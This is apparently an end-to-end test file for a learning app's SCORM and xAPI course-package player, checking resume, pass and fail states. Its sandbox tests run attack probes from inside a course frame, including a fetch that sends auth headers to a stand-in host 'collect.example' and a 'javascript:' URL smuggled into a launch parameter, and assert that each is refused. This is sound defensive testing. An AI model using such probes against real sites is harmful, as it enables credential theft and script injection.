/** Courses in packages, from the vendor's zip to what the teacher's record says: SCORM 1.2 and 2004, and xAPI, unit by unit, in the app. */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import type { Browser, Frame, Page } from 'puppeteer-core';
import type { RunningService } from '../../tools/run-service.ts';
import { signIn } from './helpers/app.ts';
import { browsers, openWindow } from './helpers/browsers.ts';
import { startBuilt } from './helpers/built.ts';
import { findCast, signInAs, type Caller, type Cast } from './helpers/county.ts';
import { find, gone, press } from './helpers/deep.ts';
import { importPackages, scorm12, scorm2004, tincan } from './helpers/packages.ts';
import { until } from './helpers/wait.ts';
import { missingForWebkit, openWebkit, type WebkitWindow } from './helpers/webkit.ts';

let service: RunningService;
let cast: Cast;
let levels: string;
let pictures: string;
let circle: string;
before(async () => {
  service = await startBuilt({}, async (folder) => {
    [levels = '', pictures = '', circle = ''] = await importPackages(folder, 'demo-yunling', [scorm12, scorm2004, tincan]);
  });
  cast = await findCast(service.origin);
});
after(() => service.remove());

async function statesOf(pupil: Caller, course: string): Promise<string[]> {
  const answer = (await (await pupil.call(`/resources/${course}/course`)).json()) as { units: { state: string }[] };
  return answer.units.map(({ state }) => state);
}

for (const [turn, browser] of browsers.filter(({ name }) => name !== 'chromium').entries()) {
  describe(`a course in a package in ${browser.name}`, { skip: browser.missing() ?? false }, () => {
    let running: Browser;
    let page: Page;
    let pupil: Caller;
    before(async () => {
      const name = cast.families[turn]?.pupil ?? assert.fail('a family');
      pupil = await signInAs(service.origin, name);
      running = await browser.launch();
      page = await openWindow(running);
      await signIn(page, service.origin, name);
    });
    after(() => running.close());

    const inUnit = (frame: Frame): boolean => frame.url().includes('/files/courses/');
    async function openUnit(place: number): Promise<Frame> {
      await press(page, `[data-unit="${place}"]`);
      const frame = await until('the unit is there', async () => page.frames().find(inUnit) ?? null, (found) => found !== null);
      if (!frame) throw new Error('no frame');
      await until('it stands', () => frame.evaluate(() => document.readyState), (state) => state === 'complete');
      return frame;
    }
    const said = (frame: Frame): Promise<string> => frame.evaluate(() => document.getElementById('said')?.textContent ?? '');
    const push = (frame: Frame, id: string): Promise<void> => frame.evaluate((name) => document.getElementById(name)?.click(), id);
    const states = (course: string): Promise<string[]> => statesOf(pupil, course);

    it('[RS-05] SCORM 1.2 is left in the middle, goes on there, and counts when its mark is reached', async () => {
      await page.goto(`${service.origin}/resources/${levels}`);
      const first = await openUnit(0);
      assert.equal(await said(first), 'ab-initio|||not attempted|', 'it learns no name');
      await push(first, 'half');
      await press(page, { css: '.inside__leave', text: '离开课程' });
      await gone(page, 'iframe.inside__frame');
      const again = await openUnit(0);
      assert.equal(await said(again), 'resume|第3题||incomplete|7');
      await push(again, 'done');
      await find(page, { css: '.course__unit', text: '已通过' });
      await gone(page, 'iframe.inside__frame');
      assert.deepEqual(await states(levels), ['passed', 'open', 'open']);
    });

    it('a page that speaks no SCORM is done when it was opened, and the course with its last unit', async () => {
      const read = await openUnit(1);
      assert.equal(await read.evaluate(() => document.querySelector('h1')?.textContent), '读一读');
      await press(page, { css: '.inside__leave', text: '离开课程' });
      await gone(page, 'iframe.inside__frame');
      await find(page, { css: '.course__head', text: '选一节' });
      await press(page, '[data-unit="2"]');
      await find(page, { css: '.course__head', text: '已经学完' });
      assert.deepEqual(await states(levels), ['passed', 'completed', 'passed']);
    });

    it('SCORM 2004 fails first, and passes in the next launch', async () => {
      await page.goto(`${service.origin}/resources/${pictures}`);
      await push(await openUnit(0), 'wrong');
      await find(page, { css: '.course__unit', text: '没有通过' });
      const again = await openUnit(0);
      assert.equal(await said(again), 'resume|failed');
      await push(again, 'right');
      await find(page, { css: '.course__unit', text: '已通过' });
      assert.deepEqual(await states(pictures), ['passed']);
    });

    it('[SEC-04] a unit reaches the record of its own launch, and nothing else of the person or the service', async () => {
      const unit = await openUnit(0);
      const got = await unit.evaluate(async (origin) => {
        const attempt = async (act: () => unknown): Promise<string> => {
          try {
            return JSON.stringify(await act());
          } catch (error) {
            return error instanceof Error ? 'refused' : String(error);
          }
        };
        return {
          app: await attempt(() => top?.document.title),
          storage: await attempt(() => [localStorage.length, document.cookie]),
          session: await attempt(async () => (await fetch(`${origin}/api/v1/session/token`, { method: 'POST', credentials: 'include', headers: { 'LS-Request': '1' } })).text()),
          key: await attempt(async () => (await fetch(new URLSearchParams(parent.location.search).get('fetch') ?? '', { method: 'POST' })).json()),
          others: await attempt(async () => (await fetch(`${origin}/xapi/statements`, { headers: { 'X-Experience-API-Version': '1.0.3' } })).status),
          leaving: await attempt(() => top && (top.location.href = 'about:blank')),
          elsewhere: await attempt(async () => (await fetch('https://collect.example/')).status),
        };
      }, service.origin);
      const { key, ...rest } = got;
      assert.deepEqual(rest, { app: 'refused', storage: '[0,""]', session: 'refused', others: '401', leaving: 'refused', elsewhere: 'refused' });
      assert.match(key, /error-code/, 'the key of the launch is good once');
    });

    it('[SEC-04] the page that carries units carries those of courses, and nothing else that somebody writes into its address', async () => {
      const unit = page.frames().find(inUnit);
      assert.ok(unit);
      const headers = { 'Content-Type': 'application/json', 'Idempotency-Key': randomUUID() };
      const launched = await pupil.call(`/resources/${levels}/launches`, { method: 'POST', headers, body: JSON.stringify({ unit: 0 }) });
      const forged = new URL(((await launched.json()) as { url: string }).url);
      forged.searchParams.set('unit', 'javascript:parent.parent.postMessage("ran", "*")');
      assert.equal(await unit.evaluate((address) => {
        const frame = document.createElement('iframe');
        return new Promise<string>((resolve) => {
          addEventListener('message', ({ data }) => resolve(JSON.stringify(data)));
          frame.src = address;
          document.body.append(frame);
        });
      }, forged.href), '{"protocol":"ls-frame/1","type":"failed"}');
    });

    it('[RS-05] an xAPI package goes on where it was left, fails, passes, and is done with its last unit', async () => {
      await page.goto(`${service.origin}/resources/${circle}`);
      await find(page, { css: '.course__unit', text: '折一折' });
      const first = await openUnit(0);
      await until('it has asked', () => said(first), (words) => words === '1||从头开始');
      await push(first, 'turn');
      await until('it is kept', () => said(first), (words) => words === 'kept 204');
      await push(first, 'wrong');
      await until('it is told', () => said(first), (words) => words === 'failed 200');
      await press(page, { css: '.inside__leave', text: '离开课程' });
      await find(page, { css: '.course__unit', text: '没有通过' });
      const again = await openUnit(0);
      await until('it has asked', () => said(again), (words) => words === '1||"第3页"');
      await push(again, 'right');
      await until('it is told', () => said(again), (words) => words === 'passed 200');
      await press(page, { css: '.inside__leave', text: '离开课程' });
      await find(page, { css: '.course__unit', text: '已通过' });
      assert.deepEqual(await states(circle), ['passed', 'open']);

      const other = await openUnit(1);
      await push(other, 'other');
      await until('it is refused', () => said(other), (words) => words === 'other 403');
      assert.deepEqual(await states(circle), ['passed', 'open'], 'who is somebody else is nobody here');
      await push(other, 'done');
      await until('it is told', () => said(other), (words) => words === 'completed 200');
      await press(page, { css: '.inside__leave', text: '离开课程' });
      await find(page, { css: '.course__head', text: '已经学完' });
    });

    it('[SEC-04] what an xAPI package is told opens the record of its launch, and nothing else of the person or the service', async () => {
      await page.goto(`${service.origin}/resources/${circle}`);
      const unit = await openUnit(0);
      const got = await unit.evaluate(async (origin) => {
        const attempt = async (act: () => unknown): Promise<string> => {
          try {
            return JSON.stringify(await act());
          } catch (error) {
            return error instanceof Error ? 'refused' : String(error);
          }
        };
        const told = new URLSearchParams(location.search);
        const headers = { Authorization: told.get('auth') ?? '', 'X-Experience-API-Version': '1.0.3' };
        const others = new URLSearchParams({ activityId: told.get('activity_id') ?? '', agent: '{"account":{"homePage":"urn:ls:person","name":"somebody-else"}}', stateId: 'bookmark' });
        return {
          app: await attempt(() => top?.document.title),
          service: await attempt(async () => (await fetch(`${origin}/api/v1/me`, { headers })).status),
          others: await attempt(async () => (await fetch(`${told.get('endpoint') ?? ''}activities/state?${others.toString()}`, { headers })).status),
          leaving: await attempt(() => top && (top.location.href = 'about:blank')),
          elsewhere: await attempt(async () => (await fetch('https://collect.example/', { headers })).status),
          noted: await attempt(() => document.referrer),
        };
      }, service.origin);
      assert.deepEqual(got, { app: 'refused', service: 'refused', others: '403', leaving: 'refused', elsewhere: 'refused', noted: '""' });
    });
  });
}

describe('a course in a package in WebKitGTK', { skip: missingForWebkit() ?? false }, () => {
  let phone: WebkitWindow;
  before(async () => {
    phone = await openWebkit({ width: 360, height: 640 });
  });
  after(() => phone.close());

  it('keeps what its units say, and lets them go', async () => {
    const name = cast.families.at(-1)?.pupil ?? assert.fail('a family');
    await phone.goto(`${service.origin}/`);
    await phone.press({ css: '.demo-person', text: name });
    await phone.find({ css: '.person', text: name });
    await phone.goto(`${service.origin}/resources/${levels}`);
    await phone.press({ css: '[data-unit="1"]' });
    const pupil = await signInAs(service.origin, name);
    await until('the page was opened', () => statesOf(pupil, levels), (states) => states[1] === 'completed');
    await phone.press({ css: '.inside__leave' });
    await phone.find({ css: '.course__unit', text: '已学完' });
    await phone.press({ css: '[data-unit="2"]' });
    await phone.find({ css: '.course__unit', text: '已通过' });
    assert.deepEqual(await statesOf(pupil, levels), ['open', 'completed', 'passed']);
  });
});
